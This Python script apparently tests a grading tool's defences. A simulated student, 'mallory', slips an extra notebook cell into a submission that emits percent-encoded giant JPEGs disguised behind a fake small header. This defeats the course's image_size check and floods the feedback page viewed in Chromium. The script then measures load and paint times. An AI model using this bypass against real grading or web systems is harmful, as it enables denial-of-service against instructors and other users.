"""a01: round 41 made image_size take the largest SOF anywhere in a JPEG and count its scans, on the bytes Python's
base64.b64decode (validate=False) makes of the output's text. The browser reads the same text as a data: URL, which
it PERCENT-DECODES before base64 (Chromium does, per the fetch spec); Python drops the '%' and keeps the hex digits.
mallory's extra cell publishes N images/jpeg outputs whose text is a literal prefix (SOI + a comment holding a fake
16 x 16 SOF) and then the real 23000 x 23000 image as %XX escapes (pctjpeg.py). Pages painted in chromium."""
import os, sys, base64
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from lib import *
A = "ps1_memory"
W = int(os.environ.get("W", "23000")); N = int(os.environ.get("N", "6"))
LIB = open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "pctjpeg.py")).read().split("if __name__")[0] + f'''
from IPython.display import display
for _k in range({N}):
    _t = disguise(real_jpeg({W}, {W}, _k + 1), _k + 1)
    display({{"image/jpeg": _t, "text/plain": "img"}}, raw=True)
print("text chars each", len(_t))
'''
m = honest(A)
idx = [i for i, c in enumerate(m.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "training_memory"][0]
m.cells.insert(idx + 1, nbformat.v4.new_code_cell(LIB))
d = make_course("a01")
hand_in(d, AARON, A, honest(A)); hand_in(d, MALLORY, A, m); hand_in(d, ZOE, A, honest(A))
grade(d, A); scores(d)
from grader.feedback import image_size
import urllib.parse, io
from PIL import Image as PI
PI.MAX_IMAGE_PIXELS = None
nb = nbformat.read(f"{d}/autograded/{MALLORY}/{A}/{A}.ipynb", 4)
imgs = [o["data"]["image/jpeg"] for c in nb.cells for o in c.get("outputs", []) if "image/jpeg" in o.get("data", {})]
print(f"autograded (Formgrader's notebook): {len(imgs)} jpeg outputs kept; course's image_size:",
      [image_size("image/jpeg", x) for x in imgs], "; as a browser reads them (PIL):",
      [PI.open(io.BytesIO(base64.b64decode(urllib.parse.unquote(x)))).size for x in imgs])
p = f"{d}/feedback/{MALLORY}/{A}/{A}.html"
print("feedback page", os.path.getsize(p), "bytes; data:image/jpeg count", open(p).read().count("data:image/jpeg"))
from playwright.sync_api import sync_playwright
with sync_playwright() as pw:
    for s in (AARON, MALLORY):
        b = pw.chromium.launch(executable_path="/usr/bin/chromium", args=["--no-sandbox"])
        pg = b.new_page(); t = time.time()
        try:
            pg.goto(f"file://{d}/feedback/{s}/{A}/{A}.html", timeout=300000, wait_until="load")
            n = pg.evaluate("document.images.length")
            print(f"{s}: load {time.time()-t:.1f}s, {n} images", pg.evaluate("Array.from(document.images).map(i => [i.naturalWidth, i.naturalHeight])"), flush=True)
            t3 = time.time()
            for k in range(n):
                pg.evaluate(f"document.images[{k}].scrollIntoView()")
                tk = time.time(); pg.screenshot(path=f"/tmp/attack42-user-a01-{s}.png", timeout=600000)
                print(f"  image {k} painted in {time.time()-tk:.1f}s", flush=True)
            print(f"  all painting {time.time()-t3:.1f}s")
        except Exception as e:
            print(f"{s}: {type(e).__name__}: {str(e)[:300]} after {time.time()-t:.1f}s")
        b.close()
shutil.rmtree(d)
